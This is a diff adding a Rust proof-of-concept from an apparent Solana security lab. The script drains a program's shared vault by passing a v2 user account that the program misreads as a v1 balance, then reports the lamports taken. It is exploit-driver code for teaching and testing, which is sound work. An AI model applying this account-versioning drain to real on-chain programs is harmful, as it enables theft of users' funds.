@@ -0,0 +1,65 @@
+//! poc-account-versioning: drains the vault through a v2 account read as
+//! v1
+//!
+//! ```bash
+//! poc-account-versioning [--rpc URL] [--user-account ACCOUNT]
+//! ```
+//!
+//! The victim is the program's one vault, a PDA, with every user's
+//! lamports in it. The attacker's account is `--user-account`, an empty
+//! account the program owns, or one this creates.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::account_versioning::Client;
+use lab_client::{Keypair, Signer};
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-account-versioning",
+    about = "Drain the account_versioning vault with a delegate that reads as a v1 balance"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The attacker's empty user account (default: one this creates)
+    #[arg(long)]
+    user_account: Option<Pubkey>,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("account_versioning")?);
+    let mut report = Report::new("account_versioning", &args.target, &client);
+    let (vault, _bump) = account_versioning::VAULT.find([], &client.program_id());
+    let user_account = match args.user_account {
+        Some(user_account) => user_account,
+        None => {
+            let user_account = Keypair::new();
+            // The secure layout leads with its version byte
+            let len = if args.target.secure {
+                account_versioning_secure::UserAccountV2::LEN
+            } else {
+                account_versioning::UserAccountV2::LEN
+            };
+            let signature = client.create_account(&user_account, len, 0).await?;
+            report.setup(
+                format!("created user account {}", user_account.pubkey()),
+                signature,
+            );
+            user_account.pubkey()
+        }
+    };
+
+    report.inspect(&client, "before", vault).await?;
+    let drained = client.exploit_drain(user_account, vault).await;
+    report.inspect(&client, "after", vault).await?;
+    Ok(report.exploit(vault, drained.map(|stolen| Exploit::took(stolen, vault))))
+}